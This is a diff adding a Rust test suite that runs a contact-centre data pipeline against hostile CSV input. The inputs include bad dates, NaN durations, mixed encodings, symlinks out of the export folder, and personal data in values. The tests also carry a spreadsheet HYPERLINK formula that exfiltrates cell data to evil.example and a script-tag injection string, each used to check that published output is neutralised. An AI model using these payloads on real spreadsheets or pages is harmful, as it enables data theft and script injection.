@@ -1,0 +1,823 @@
+//! Hostile and broken input (issue 16): one test per finding, each on a small export written
+//! here byte by byte, run through the real binary.
+
+use std::path::{Path, PathBuf};
+
+use polars::prelude::*;
+
+use crate::util::{strings, u64s, Workspace};
+
+type Error = Box<dyn std::error::Error>;
+type TestResult = Result<(), Error>;
+
+/// A rejected row's cex_reason, cex_column and cex_value.
+type Reject = (String, String, String);
+
+/// The export's header: every row below has these seven fields.
+const HEADER: &str = "Call ID,Started,Queue,Result,Wait,Talk,Site\n";
+
+const QUEUES: &str = "queue,service\nHSG,Housing\nBins,Waste\n";
+
+/// A pipeline over `data/*.csv` with one calls source; `quality` is added to `[quality]` and
+/// `extra` at the end (e.g. a `[report]` table).
+fn pipeline(quality: &str, extra: &str) -> String {
+    format!(
+        r#"
+name = "hostile"
+organisation = "Test Council"
+lake = "lake"
+output = "out"
+
+[quality]
+warn_reject_share = 0.01
+fail_reject_share = 0.95
+fail_on_unmapped_service = false
+{quality}
+
+[[sources]]
+name = "calls"
+kind = "calls"
+files = "data/*.csv"
+timestamp_formats = ["%Y-%m-%d %H:%M:%S", "%d/%m/%Y %H:%M:%S"]
+
+[sources.columns]
+record_id = "Call ID"
+timestamp = "Started"
+category = "Queue"
+outcome = "Result"
+wait = "Wait"
+handle = "Talk"
+location = "Site"
+
+[sources.service]
+lookup = "queues.csv"
+
+[sources.outcomes]
+answered = ["Answered"]
+abandoned = ["Abandoned"]
+{extra}
+"#
+    )
+}
+
+/// A workspace with `p.toml` (see [`pipeline`]), the queue lookup and `data/calls.csv`.
+fn workspace(quality: &str, csv: impl AsRef<[u8]>) -> Workspace {
+    let ws = Workspace::new();
+    ws.write("p.toml", pipeline(quality, ""));
+    ws.write("queues.csv", QUEUES);
+    ws.write("data/calls.csv", csv);
+    ws
+}
+
+/// The header followed by `rows` (each a line without its end).
+fn calls(rows: &[&str]) -> String {
+    let mut s = HEADER.to_string();
+    for r in rows {
+        s.push_str(r);
+        s.push('\n');
+    }
+    s
+}
+
+/// A CSV with every column read as text (no type inference).
+fn read_text_csv(path: &Path) -> Result<DataFrame, Error> {
+    Ok(CsvReadOptions::default()
+        .with_has_header(true)
+        .with_infer_schema_length(Some(0))
+        .try_into_reader_with_file_path(Some(path.to_path_buf()))?
+        .finish()?)
+}
+
+/// Every file under `dir` whose name ends with `ext`; with `ext` empty, every file and folder.
+fn files_under(dir: &Path, ext: &str) -> Vec<PathBuf> {
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
+            let p = e.path();
+            if p.is_dir() {
+                if ext.is_empty() {
+                    out.push(p.clone());
+                }
+                stack.push(p);
+            } else if p.to_string_lossy().ends_with(ext) {
+                out.push(p);
+            }
+        }
+    }
+    out.sort();
+    out
+}
+
+/// The source's rejects, all files together, every column as text.
+fn rejects(ws: &Workspace) -> Result<DataFrame, Error> {
+    let files = files_under(&ws.path().join("lake/rejects/calls"), ".csv");
+    let mut frames = Vec::new();
+    for f in &files {
+        frames.push(read_text_csv(f)?.lazy());
+    }
+    if frames.is_empty() {
+        return Err("no rejects file".into());
+    }
+    Ok(concat(frames, UnionArgs::default())?.collect()?)
+}
+
+/// (cex_reason, cex_column, cex_value) of every reject, as text.
+fn reject_rows(ws: &Workspace) -> Result<Vec<Reject>, Error> {
+    let df = rejects(ws)?;
+    let text = |c: &str| strings(&df, c).into_iter().map(Option::unwrap_or_default);
+    Ok(text("cex_reason")
+        .zip(text("cex_column"))
+        .zip(text("cex_value"))
+        .map(|((r, c), v)| (r, c, v))
+        .collect())
+}
+
+fn reasons(ws: &Workspace) -> Result<Vec<String>, Error> {
+    let mut r: Vec<String> = reject_rows(ws)?.into_iter().map(|(r, _, _)| r).collect();
+    r.sort();
+    Ok(r)
+}
+
+fn sorted_keys(ws: &Workspace) -> Vec<String> {
+    let mut keys: Vec<String> = strings(&ws.lake_table("contacts"), "record_key")
+        .into_iter()
+        .flatten()
+        .collect();
+    keys.sort();
+    keys
+}
+
+/// The line of `output` that contains `needle`, or a failure showing the whole output.
+fn line_with<'a>(output: &'a str, needle: &str) -> Result<&'a str, String> {
+    output
+        .lines()
+        .find(|l| l.contains(needle))
+        .ok_or_else(|| format!("no line with {needle:?} in\n{output}"))
+}
+
+fn last_run(ws: &Workspace) -> Result<String, std::io::Error> {
+    std::fs::read_to_string(ws.path().join("out/last-run.json"))
+}
+
+// 1 --------------------------------------------------------------------------------------------
+
+#[test]
+fn hostile_implausible_dates_are_rejected_and_never_partitioned() -> TestResult {
+    let ws = workspace(
+        "",
+        calls(&[
+            "D1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
+            "D2,0024-04-05 10:00:00,HSG,Answered,10,60,Depot",
+            "D3,2099-04-05 10:00:00,HSG,Answered,10,60,Depot",
+            "D4,05/04/24 10:00:00,HSG,Answered,10,60,Depot",
+        ]),
+    );
+    ws.cex(&["ingest", "p.toml"]).assert_code(0);
+    assert_eq!(sorted_keys(&ws), ["D1"]);
+    assert_eq!(reasons(&ws)?, ["implausible_date"; 3]);
+    let contacts = ws.path().join("lake/contacts");
+    let paths = files_under(&contacts, "");
+    assert!(paths.iter().any(|p| p.ends_with("year=2024")), "{paths:?}");
+    for p in paths {
+        let text = p.to_string_lossy();
+        for bad in ["year=24", "year=0024", "year=2099", "=2099-", "=0024-"] {
+            assert!(!text.contains(bad), "{text}");
+        }
+    }
+    Ok(())
+}
+
+#[test]
+fn hostile_date_limits_follow_quality_settings_and_the_as_of_day() -> TestResult {
+    let ws = workspace(
+        "earliest_date = \"2024-04-01\"\nfuture_days = 2",
+        calls(&[
+            "E1,2024-03-31 12:00:00,HSG,Answered,10,60,Depot",
+            "E2,2024-04-01 09:00:00,HSG,Answered,10,60,Depot",
+            "E3,2024-04-12 09:00:00,HSG,Answered,10,60,Depot",
+            "E4,2024-04-13 09:00:00,HSG,Answered,10,60,Depot",
+        ]),
+    );
+    ws.cex(&[
+        "run",
+        "p.toml",
+        "--as-of",
+        "2024-04-10",
+        "--period",
+        "2024-04",
+        "--skip",
+        "equality,charts,report",
+    ])
+    .assert_code(0);
+    assert_eq!(sorted_keys(&ws), ["E2", "E3"]);
+    assert_eq!(reasons(&ws)?, ["implausible_date"; 2]);
+    Ok(())
+}
+
+// 2 --------------------------------------------------------------------------------------------
+
+#[test]
+fn hostile_impossible_durations_are_rejected_and_nothing_published_is_nan() -> TestResult {
+    let ws = workspace(
+        "",
+        calls(&[
+            "N1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
+            "N2,2024-04-05 10:01:00,HSG,Answered,1e30,60,Depot",
+            "N3,2024-04-05 10:02:00,HSG,Answered,99999999999999999999,60,Depot",
+            "N4,2024-04-05 10:03:00,HSG,Answered,NaN,60,Depot",
+            "N5,2024-04-05 10:04:00,HSG,Answered,10,inf,Depot",
+            "N6,2024-04-05 10:05:00,HSG,Answered,-inf,60,Depot",
+            "N7,2024-04-05 10:06:00,HSG,Answered,-3,60,Depot",
+            "N8,2024-04-05 10:07:00,HSG,Answered,10,90000,Depot",
+        ]),
+    );
+    ws.cex(&[
+        "run",
+        "p.toml",
+        "--as-of",
+        "2024-05-10",
+        "--period",
+        "2024-04",
+        "--skip",
+        "equality,charts,report",
+    ])
+    .assert_code(0);
+    assert_eq!(sorted_keys(&ws), ["N1"]);
+    let mut by_row: Vec<(String, String)> = reject_rows(&ws)?
+        .into_iter()
+        .map(|(r, _, v)| (v, r))
+        .collect();
+    by_row.sort();
+    let expected = [
+        ("-3", "negative_duration"),
+        ("-inf", "negative_duration"),
+        ("1e30", "implausible_duration"),
+        ("90000", "implausible_duration"),
+        ("99999999999999999999", "implausible_duration"),
+        ("NaN", "implausible_duration"),
+        ("inf", "implausible_duration"),
+    ]
+    .map(|(v, r)| (v.to_string(), r.to_string()));
+    assert_eq!(by_row, expected);
+    let published = files_under(&ws.path().join("out/2024-04"), ".csv");
+    assert!(
+        published.iter().any(|p| p.ends_with("contact_centre.csv")),
+        "{published:?}"
+    );
+    for p in published {
+        let df = read_text_csv(&p)?;
+        for column in df.columns() {
+            for cell in column.str()?.iter().flatten() {
+                let cell = cell
+                    .trim()
+                    .trim_start_matches(['+', '-'])
+                    .to_ascii_lowercase();
+                assert!(
+                    !["nan", "inf", "infinity"].contains(&cell.as_str()),
+                    "{}: {cell}",
+                    p.display()
+                );
+            }
+        }
+    }
+    Ok(())
+}
+
+// 3 --------------------------------------------------------------------------------------------
+
+/// "Paid £120 – café’s" as Windows-1252: £ 0xA3, – 0x96, é 0xE9, ’ 0x92.
+const PAID_1252: &[u8] = b"Paid \xA3120 \x96 caf\xE9\x92s";
+const PAID: &str = "Paid £120 – café’s";
+
+#[test]
+fn hostile_one_windows_1252_line_in_a_utf8_file_is_repaired_alone() -> TestResult {
+    let mut bytes = HEADER.as_bytes().to_vec();
+    bytes.extend_from_slice(
+        format!("M1,2024-04-05 10:00:00,HSG,Answered,10,60,{PAID}\n").as_bytes(),
+    );
+    bytes.extend_from_slice(b"M2,2024-04-05 10:01:00,HSG,Answered,10,60,");
+    bytes.extend_from_slice(PAID_1252);
+    bytes.push(b'\n');
+    bytes.extend_from_slice(
+        format!("M3,2024-04-05 10:02:00,HSG,Answered,-1,60,{PAID}\n").as_bytes(),
+    );
+    let ws = workspace("", bytes);
+    let out = ws.cex(&["ingest", "p.toml"]);
+    out.assert_code(0);
+    let contacts = ws
+        .lake_table("contacts")
+        .sort(["record_key"], Default::default())?;
+    assert_eq!(
+        strings(&contacts, "location"),
+        [Some(PAID.to_string()), Some(PAID.to_string())]
+    );
+    // The raw row of a UTF-8 line is kept as it was, too.
+    let rejects = rejects(&ws)?;
+    assert_eq!(strings(&rejects, "Site"), [Some(PAID.to_string())]);
+    // Warnings are printed with the ingest table, on stdout.
+    line_with(&out.stdout, "1 line was not UTF-8 and read as Windows-1252")?;
+    assert_eq!(
+        strings(&ws.manifest(), "encoding"),
+        [Some("utf-8 (1 line windows-1252)".to_string())]
+    );
+    Ok(())
+}
+
+#[test]
+fn hostile_a_windows_1252_file_is_decoded_throughout() -> TestResult {
+    let mut bytes = HEADER.as_bytes().to_vec();
+    for id in ["W1", "W2"] {
+        bytes.extend_from_slice(format!("{id},2024-04-05 10:00:00,HSG,Answered,10,60,").as_bytes());
+        bytes.extend_from_slice(PAID_1252);
+        bytes.extend_from_slice(b"\r\n");
+    }
+    let ws = workspace("", bytes);
+    let out = ws.cex(&["ingest", "p.toml"]);
+    out.assert_code(0);
+    assert_eq!(
+        strings(&ws.lake_table("contacts"), "location"),
+        [Some(PAID.to_string()), Some(PAID.to_string())]
+    );
+    assert_eq!(
+        strings(&ws.manifest(), "encoding"),
+        [Some("windows-1252".to_string())]
+    );
+    assert!(!out.stdout.contains("not UTF-8"), "{}", out.stdout);
+    Ok(())
+}
+
+// 4 --------------------------------------------------------------------------------------------
+
+#[test]
+fn hostile_rows_of_the_wrong_shape_are_rejected_as_exported() -> TestResult {
+    let short = "S2,2024-04-05 10:01:00,HSG";
+    let long = "S3,2024-04-05 10:02:00,HSG,Answered,10,60,\"Caf\u{e9}, \"\"North\"\"\",extra,  ";
+    let csv = [
+        HEADER.trim_end(),
+        "S1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
+        short,
+        "",
+        long,
+        "S4,2024-04-05 10:03:00,HSG,Answered,10,60,Depot,,",
+        "S5,2024-04-05 10:04:00,HSG,Answered,10,60,\"North, \r\nDepot\"",
+        "S1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
+        "",
+    ]
+    .join("\r\n");
+    let ws = workspace("", csv);
+    let out = ws.cex(&["ingest", "p.toml"]);
+    out.assert_code(0);
+    assert_eq!(sorted_keys(&ws), ["S1", "S4", "S5"]);
+    let mut rows = reject_rows(&ws)?;
+    rows.sort();
+    let expected = [short, long].map(|v| {
+        (
+            "wrong_field_count".to_string(),
+            "(whole row)".to_string(),
+            v.to_string(),
+        )
+    });
+    assert_eq!(rows, expected);
+    // Six records (blank lines are not rows): three kept, two rejected, one repeated.
+    let manifest = ws.manifest();
+    assert_eq!(u64s(&manifest, "rows_read"), [6]);
+    assert_eq!(u64s(&manifest, "accepted"), [3]);
+    assert_eq!(u64s(&manifest, "rejected"), [2]);
+    assert_eq!(u64s(&manifest, "duplicates"), [1]);
+    let line: Vec<&str> = out
+        .stdout
+        .lines()
+        .find(|l| l.starts_with("data/calls.csv"))
+        .unwrap_or_default()
+        .split_whitespace()
+        .collect();
+    assert_eq!(
+        line.get(1..5),
+        Some(&["6", "3", "2", "1"][..]),
+        "{}",
+        out.stdout
+    );
+    Ok(())
+}
+
+// 5 --------------------------------------------------------------------------------------------
+
+#[test]
+fn hostile_a_header_only_file_warns_or_fails_when_configured() -> TestResult {
+    let ws = workspace("", HEADER);
+    let out = ws.cex(&["ingest", "p.toml"]);
+    out.assert_code(0);
+    // Warnings are printed with the ingest table, on stdout.
+    line_with(&out.stdout, "header and no rows")?;
+
+    let strict = workspace("fail_on_empty_file = true", HEADER);
+    let out = strict.cex(&["ingest", "p.toml"]);
+    out.assert_code(4);
+    assert!(
+        format!("{}{}", out.stdout, out.stderr).contains("header and no rows"),
+        "{}\n{}",
+        out.stdout,
+        out.stderr
+    );
+    Ok(())
+}
+
+// 6 --------------------------------------------------------------------------------------------
+
+#[test]
+fn hostile_duplicate_header_names_are_refused_naming_both() -> TestResult {
+    let ws = workspace(
+        "",
+        "Call ID,Started,Queue,Result,Wait,wait ,Talk,Site\n\
+         H1,2024-04-05 10:00:00,HSG,Answered,10,11,60,Depot\n",
+    );
+    let out = ws.cex(&["ingest", "p.toml"]);
+    out.assert_code(3);
+    let line = line_with(&out.stderr, "both named")?;
+    assert!(line.contains("data/calls.csv"), "{line}");
+    assert!(line.contains("columns 5 and 6"), "{line}");
+    assert!(line.contains("'wait'"), "{line}");
+    Ok(())
+}
+
+// 7 --------------------------------------------------------------------------------------------
+
+#[cfg(unix)]
+#[test]
+fn hostile_a_dangling_symlink_is_refused_naming_the_link() -> TestResult {
+    let ws = workspace(
+        "",
+        calls(&["L1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot"]),
+    );
+    std::os::unix::fs::symlink(
+        ws.path().join("data/gone.txt"),
+        ws.path().join("data/ghost.csv"),
+    )?;
+    let out = ws.cex(&["ingest", "p.toml"]);
+    out.assert_code(3);
+    let line = line_with(&out.stderr, "ghost.csv")?;
+    assert!(line.contains("dangling"), "{line}");
+    assert!(!ws.path().join("lake/manifest/_delta_log").exists());
+    Ok(())
+}
+
+#[cfg(unix)]
+#[test]
+fn hostile_a_symlink_out_of_the_export_folder_is_refused_unread() -> TestResult {
+    let ws = workspace(
+        "",
+        calls(&["L1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot"]),
+    );
+    let secret = ws.write(
+        "secret/keys.csv",
+        "SECRET-TOKEN-123,x\nSECRET-TOKEN-456,y\n",
+    );
+    std::os::unix::fs::symlink(&secret, ws.path().join("data/leak.csv"))?;
+    let out = ws.cex(&["run", "p.toml", "--skip", "equality,charts,report"]);
+    out.assert_code(3);
+    line_with(&out.stderr, "leak.csv")?;
+    let json = last_run(&ws)?;
+    for (name, text) in [
+        ("stdout", &out.stdout),
+        ("stderr", &out.stderr),
+        ("last-run.json", &json),
+    ] {
+        assert!(!text.contains("SECRET-TOKEN"), "{name}:\n{text}");
+    }
+    Ok(())
+}
+
+// 8 --------------------------------------------------------------------------------------------
+
+#[test]
+fn hostile_without_record_id_identical_rows_are_kept_and_keys_hold_no_content() -> TestResult {
+    let ws = Workspace::new();
+    let text = pipeline("", "").replace("record_id = \"Call ID\"\n", "");
+    ws.write("p.toml", text);
+    ws.write(
+        "queues.csv",
+        "queue,service\nMissed bin at 12 Acacia Avenue,Waste\n",
+    );
+    let row = "2024-04-05 10:00:00,Missed bin at 12 Acacia Avenue,Answered,10,60,OX1 2AB";
+    let csv = format!("Started,Queue,Result,Wait,Talk,Site\n{row}\n{row}\n{row}\n");
+    ws.write("data/calls.csv", &csv);
+    ws.cex(&["ingest", "p.toml"]).assert_code(0);
+    let manifest = ws.manifest();
+    assert_eq!(u64s(&manifest, "accepted"), [3]);
+    assert_eq!(u64s(&manifest, "duplicates"), [0]);
+    let file_id = strings(&manifest, "file_id")
+        .into_iter()
+        .flatten()
+        .next()
+        .ok_or("no file id")?;
+    assert_eq!(file_id.len(), 16, "{file_id}");
+    assert!(
+        sha256_hex(csv.as_bytes()).starts_with(&file_id),
+        "{file_id}"
+    );
+    assert_eq!(
+        sorted_keys(&ws),
+        [2, 3, 4].map(|row| format!("{file_id}:{row}"))
+    );
+    Ok(())
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    use sha2::Digest;
+    sha2::Sha256::digest(bytes)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
+// 9 --------------------------------------------------------------------------------------------
+
+#[test]
+fn hostile_lake_output_and_exports_stay_out_of_system_folders_and_apart() -> TestResult {
+    let ws = workspace(
+        "",
+        calls(&["P1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot"]),
+    );
+    let base = pipeline("", "");
+    for (from, to, key) in [
+        ("lake = \"lake\"", "lake = \"/\"", "lake"),
+        ("lake = \"lake\"", "lake = \"/etc\"", "lake"),
+        ("output = \"out\"", "output = \"lake\"", "output"),
+        ("output = \"out\"", "output = \"lake/out\"", "output"),
+        (
+            "files = \"data/*.csv\"",
+            "files = \"/etc/*.conf\"",
+            "sources[0] (calls).files",
+        ),
+    ] {
+        ws.write("p.toml", base.replace(from, to));
+        let out = ws.cex(&["validate", "p.toml"]);
+        out.assert_code(2);
+        let line = line_with(&out.stderr, &format!("- {key}: "))?;
+        assert!(
+            line.contains(to.split('"').nth(1).unwrap_or(to)),
+            "{to}: {line}"
+        );
+    }
+    Ok(())
+}
+
+#[test]
+fn hostile_a_period_folder_cex_did_not_write_is_never_replaced() -> TestResult {
+    let ws = workspace(
+        "",
+        calls(&["P1,2025-03-05 10:00:00,HSG,Answered,10,60,Depot"]),
+    );
+    let theirs = b"Ref,Amount\nA1,\xA3120\n".to_vec();
+    let path = ws.write("out/2025-03/finance_export.csv", &theirs);
+    let out = ws.cex(&[
+        "run",
+        "p.toml",
+        "--as-of",
+        "2025-04-10",
+        "--period",
+        "2025-03",
+        "--skip",
+        "equality,charts,report",
+    ]);
+    assert_ne!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
+    line_with(&out.stderr, "not a folder cex published")?;
+    assert_eq!(std::fs::read(&path)?, theirs);
+    Ok(())
+}
+
+// 10 -------------------------------------------------------------------------------------------
+
+const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"x\")";
+const SCRIPT: &str = "<script>alert(1)</script>";
+
+#[test]
+fn hostile_published_csv_cells_never_start_a_formula() -> TestResult {
+    let ws = workspace(
+        "",
+        calls(&[
+            "F1,2024-04-05 10:00:00,EVIL,Answered,10,60,Depot",
+            "F2,2024-04-05 10:01:00,=1+1,Answered,10,60,Depot",
+        ]),
+    );
+    ws.write(
+        "queues.csv",
+        format!(
+            "queue,service\nEVIL,\"{}\"\n\"=1+1\",Housing\n",
+            HYPERLINK.replace('"', "\"\"")
+        ),
+    );
+    ws.cex(&[
+        "run",
+        "p.toml",
+        "--as-of",
+        "2024-05-10",
+        "--period",
+        "2024-04",
+        "--skip",
+        "equality,charts,report",
+    ])
+    .assert_code(0);
+    // The service name really reached the lake, and the publications.
+    assert!(strings(&ws.lake_table("contacts"), "service").contains(&Some(HYPERLINK.to_string())));
+    let published = files_under(&ws.path().join("out/2024-04"), ".csv");
+    let mut seen = false;
+    for p in &published {
+        let df = read_text_csv(p)?;
+        for column in df.columns() {
+            for cell in column.str()?.iter().flatten() {
+                assert!(!cell.starts_with('='), "{}: {cell}", p.display());
+                seen |= cell == format!("'{HYPERLINK}");
+            }
+        }
+    }
+    assert!(seen, "no published cell holds '{HYPERLINK}: {published:?}");
+    Ok(())
+}
+
+#[test]
+fn hostile_report_titles_and_names_are_never_markup() -> TestResult {
+    let ws = workspace(
+        "",
+        calls(&["R1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot"]),
+    );
+    let text = pipeline("", &format!("[report]\ntitle = \"{SCRIPT}\"\n")).replace(
+        "organisation = \"Test Council\"",
+        &format!("organisation = \"{SCRIPT}\""),
+    );
+    ws.write("p.toml", text);
+    ws.cex(&[
+        "run",
+        "p.toml",
+        "--as-of",
+        "2024-05-10",
+        "--period",
+        "2024-04",
+    ])
+    .assert_code(0);
+    for name in ["report.md", "report.html"] {
+        let report = std::fs::read_to_string(ws.path().join("out/2024-04").join(name))?;
+        assert!(
+            !report.to_ascii_lowercase().contains("<script"),
+            "{name}:\n{report}"
+        );
+        assert!(report.contains("alert(1)"), "{name}: the title is shown");
+    }
+    Ok(())
+}
+
+// 11 -------------------------------------------------------------------------------------------
+
+#[test]
+#[ignore = "issue 16: the unmapped-service warning quotes the value unscrubbed: the phone number and e-mail address are in last-run.json (warnings[].values and message) and on stdout"]
+fn hostile_personal_data_in_a_value_stays_out_of_messages() -> TestResult {
+    let ws = workspace(
+        "",
+        calls(&[
+            "X1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
+            "X2,2024-04-05 10:01:00,Call 07700 900123 or jo.bloggs@example.com,Answered,10,60,Depot",
+        ]),
+    );
+    let out = ws.cex(&[
+        "run",
+        "p.toml",
+        "--as-of",
+        "2024-05-10",
+        "--period",
+        "2024-04",
+        "--skip",
+        "equality,charts,report",
+    ]);
+    out.assert_code(0);
+    let json = last_run(&ws)?;
+    // The value was seen and reported on: it is rejected unmapped.
+    assert_eq!(reasons(&ws)?, ["unmapped_service"]);
+    // Warnings are printed on stdout: they must not carry the value either.
+    for (name, text) in [
+        ("stdout", &out.stdout),
+        ("stderr", &out.stderr),
+        ("last-run.json", &json),
+    ] {
+        for secret in ["07700", "900123", "jo.bloggs", "example.com"] {
+            assert!(!text.contains(secret), "{secret} in {name}:\n{text}");
+        }
+    }
+    Ok(())
+}
+
+/// Every message line is at most about 300 characters, whatever the size of the input.
+const LONGEST_LINE: usize = 300;
+
+fn assert_short_lines(output: &str) {
+    for line in output.lines() {
+        let n = line.chars().count();
+        assert!(
+            n <= LONGEST_LINE,
+            "a line of {n} characters: {}...",
+            line.chars().take(200).collect::<String>()
+        );
+    }
+}
+
+#[test]
+#[ignore = "issue 16: the missing-columns error lists the file's header whole: a 5 MB single-line file gives a stderr line of 5,243,288 characters"]
+fn hostile_a_5_mb_single_line_file_gives_short_messages() -> TestResult {
+    let line = "Queue-name-".repeat(5 * 1024 * 1024 / 11);
+    let ws = workspace("", line);
+    let out = ws.cex(&["ingest", "p.toml"]);
+    assert_ne!(out.code, 0);
+    assert!(!out.stderr.contains("panicked"));
+    assert_short_lines(&out.stderr);
+    Ok(())
+}
+
+/// Ingest of a file whose second row has a 100 KB category value (rejected unmapped).
+fn ingest_a_100_kb_value() -> Result<crate::util::Output, Error> {
+    let huge = "Q".repeat(100 * 1024);
+    let ws = workspace(
+        "",
+        calls(&[
+            "V1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
+            &format!("V2,2024-04-05 10:01:00,{huge},Answered,10,60,Depot"),
+        ]),
+    );
+    let out = ws.cex(&["ingest", "p.toml"]);
+    out.assert_code(0);
+    assert_eq!(reasons(&ws)?, ["unmapped_service"]);
+    Ok(out)
+}
+
+#[test]
+fn hostile_a_100_kb_value_gives_short_stderr_lines() -> TestResult {
+    assert_short_lines(&ingest_a_100_kb_value()?.stderr);
+    Ok(())
+}
+
+#[test]
+#[ignore = "issue 16: the unmapped-service warning on stdout quotes the value whole: a 100 KB value gives a line of 102,524 characters"]
+fn hostile_a_100_kb_value_is_cut_in_the_warning() -> TestResult {
+    let out = ingest_a_100_kb_value()?;
+    line_with(&out.stdout, "no service mapping for 'QQQ")?;
+    assert_short_lines(&out.stdout);
+    Ok(())
+}
+
+// 12 -------------------------------------------------------------------------------------------
+
+/// Which of `paths` group or others can read, write or enter, with their modes.
+#[cfg(unix)]
+fn open_to_others(paths: impl IntoIterator<Item = PathBuf>) -> Result<Vec<String>, std::io::Error> {
+    use std::os::unix::fs::PermissionsExt;
+    let mut out = Vec::new();
+    for p in paths {
+        let mode = std::fs::metadata(&p)?.permissions().mode() & 0o777;
+        if mode & 0o077 != 0 {
+            out.push(format!("{:o} {}", mode, p.display()));
+        }
+    }
+    Ok(out)
+}
+
+#[cfg(unix)]
+fn owner_only_fixture() -> Workspace {
+    let ws = workspace(
+        "",
+        calls(&[
+            "O1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
+            "O2,2024-04-05 10:01:00,HSG,Answered,-10,60,Depot",
+        ]),
+    );
+    ws.cex(&["ingest", "p.toml"]).assert_code(0);
+    ws
+}
+
+#[cfg(unix)]
+#[test]
+fn hostile_the_lake_root_rejects_and_data_files_are_owner_only() -> TestResult {
+    let ws = owner_only_fixture();
+    let lake = ws.path().join("lake");
+    let parquet = files_under(&lake.join("contacts"), ".parquet");
+    assert!(!parquet.is_empty());
+    let mut paths = vec![lake.clone(), lake.join("rejects/calls")];
+    paths.extend(files_under(&lake.join("rejects"), ".csv"));
+    paths.extend(parquet);
+    let open = open_to_others(paths)?;
+    assert!(open.is_empty(), "{open:#?}");
+    Ok(())
+}
+
+#[cfg(unix)]
+#[test]
+#[ignore = "issue 16: under umask 022, lake/rejects, lake/manifest (its parquet, its _delta_log), lake/contacts, its _delta_log and the organisation=/source=/year= folders are 0755/0644; only the lake root, month= folders, contacts parquet and rejects/<source> are owner-only"]
+fn hostile_every_lake_folder_and_file_is_owner_only() -> TestResult {
+    let ws = owner_only_fixture();
+    let lake = ws.path().join("lake");
+    let mut paths = vec![lake.clone()];
+    paths.extend(files_under(&lake, ""));
+    // The lock file holds nothing.
+    paths.retain(|p| !p.ends_with(".lock"));
+    let open = open_to_others(paths)?;
+    assert!(open.is_empty(), "{open:#?}");
+    Ok(())
+}
